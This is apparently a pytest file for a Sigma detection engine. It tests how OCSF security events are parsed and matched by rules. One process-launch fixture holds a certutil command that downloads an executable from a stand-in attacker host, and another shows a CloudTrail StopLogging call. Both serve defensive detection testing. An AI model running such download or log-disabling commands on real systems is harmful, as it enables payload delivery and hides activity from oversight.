"""OCSF 1.x: classes and activities are Sigma's categories. Records written after schema.ocsf.io."""

from __future__ import annotations

from typing import Any

import pytest

from detectors.sigma.engine import Engine
from schemas.event import Source
from tests.parsing import NOW_MS, event
from tests.sigma import rule

WINDOWS = {"hostname": "ws-017", "os": {"name": "Windows", "type_id": 100}, "type_id": 2}


def ocsf(class_uid: int, activity: int, **body: Any) -> dict[str, Any]:
    """A record's head: the attributes that every class requires."""
    return {
        "class_uid": class_uid,
        "category_uid": class_uid // 1000,
        "activity_id": activity,
        "type_uid": class_uid * 100 + activity,
        "severity_id": 1,
        "time": NOW_MS,
        "metadata": {"version": "1.3.0", "product": {"name": "Agent", "vendor_name": "Example"}},
        "device": WINDOWS,
    } | body


LAUNCH = ocsf(
    1007,
    1,
    process={
        "pid": 5216,
        "file": {
            "name": "certutil.exe",
            "path": "C:\\Windows\\System32\\certutil.exe",
            "hashes": [{"algorithm_id": 3, "value": "c3" * 32}],
        },
        "cmd_line": "certutil -urlcache -f http://evil.example/p.exe",
        "user": {"name": "dana", "domain": "BANK"},
        "parent_process": {"pid": 7720, "file": {"path": "C:\\Windows\\explorer.exe"}, "cmd_line": "explorer.exe"},
    },
    actor={"process": {"file": {"path": "C:\\Windows\\explorer.exe"}}, "user": {"name": "dana"}},
)


def test_a_process_launch_has_its_columns_and_observables() -> None:
    found = event(LAUNCH)
    assert found.format.name == "ocsf"
    assert found.source == Source("windows", "process_creation", "", 0)
    assert (found.host, found.user, found.time_ms) == ("ws-017", "dana", NOW_MS)
    assert (found.process, found.command_line[:8]) == ("C:\\Windows\\System32\\certutil.exe", "certutil")
    assert {("sha256", "c3" * 32), ("url", "http://evil.example/p.exe")} <= set(found.observables)


@pytest.mark.parametrize(
    ("product", "category", "selection", "doc"),
    [
        (
            "windows",
            "process_creation",
            {"Image|endswith": "\\certutil.exe", "ParentImage|endswith": "explorer.exe"},
            LAUNCH,
        ),
        ("windows", "process_creation", {"CommandLine|contains": "urlcache", "User": "dana"}, LAUNCH),
        ("windows", "file_event", {"TargetFilename|endswith": ".hta"}, ocsf(1001, 1, file={"path": "C:\\a.hta"})),
        ("windows", "image_load", {"ImageLoaded": "C:\\a.dll"}, ocsf(1005, 1, module={"file": {"path": "C:\\a.dll"}})),
        (
            "windows",
            "registry_set",
            {"TargetObject|contains": "\\Run", "Details": "a.exe"},
            ocsf(201002, 2, reg_value={"path": "HKLM\\x\\Run", "data": "a.exe"}),
        ),
        (
            "windows",
            "network_connection",
            {"DestinationPort": 443, "Initiated": "true"},
            ocsf(
                4001, 1, dst_endpoint={"ip": "203.0.113.9", "port": 443}, actor={}, connection_info={"direction_id": 2}
            ),
        ),
        ("", "dns", {"query|endswith": "evil.example"}, ocsf(4003, 1, device={}, query={"hostname": "a.evil.example"})),
        (
            "",
            "proxy",
            {"c-uri|contains": "/a", "cs-method": "GET"},
            ocsf(4002, 3, http_request={"url": {"url_string": "http://evil.example/a"}, "http_method": "GET"}),
        ),
        ("", "firewall", {"dst_port": 22}, ocsf(4001, 6, device={}, dst_endpoint={"ip": "203.0.113.9", "port": 22})),
    ],
)
def test_rules_find_the_fields_where_the_classes_have_them(
    product: str, category: str, selection: dict[str, Any], doc: dict[str, Any]
) -> None:
    said = {"category": category} | ({"product": product} if product else {})
    engine = Engine([rule({"s": selection, "condition": "s"}, logsource=said)])
    assert engine.match([event(doc)])
    assert not engine.match([event(ocsf(1008, 1))]), "the rule would find anything"


def test_an_api_call_of_cloudtrail_is_cloudtrails() -> None:
    doc = ocsf(
        6003,
        3,
        metadata={"version": "1.1.0", "product": {"name": "CloudTrail", "vendor_name": "AWS"}},
        cloud={"provider": "AWS", "region": "eu-central-1"},
        api={"operation": "StopLogging", "service": {"name": "cloudtrail.amazonaws.com"}},
        actor={"user": {"type": "IAMUser", "name": "dana", "uid": "arn:aws:iam::111122223333:user/dana"}},
        src_endpoint={"ip": "203.0.113.9"},
    )
    found = event(doc)
    assert (found.source, found.user, found.src_ip) == (Source("aws", "", "cloudtrail", 0), "dana", "203.0.113.9")
    aws = {"product": "aws", "service": "cloudtrail"}
    asked = {"eventSource": "cloudtrail.amazonaws.com", "eventName": "StopLogging"}
    assert Engine([rule({"s": asked, "condition": "s"}, logsource=aws)]).match([found])


@pytest.mark.parametrize(
    ("number", "service"), [(3001, "account_change"), (3002, "authentication"), (2004, "detection_finding")]
)
def test_classes_that_sigma_has_no_category_for_are_services(number: int, service: str) -> None:
    assert event(ocsf(number, 1)).source == Source("windows", "", service, 0)


@pytest.mark.parametrize("odd", [None, [], {}, "x", 1, [None], {"os": 1}, {"file": {"hashes": [1]}}])
def test_any_value_in_any_place_leaves_an_event(odd: Any) -> None:
    for name in LAUNCH:
        event(LAUNCH | {name: odd})
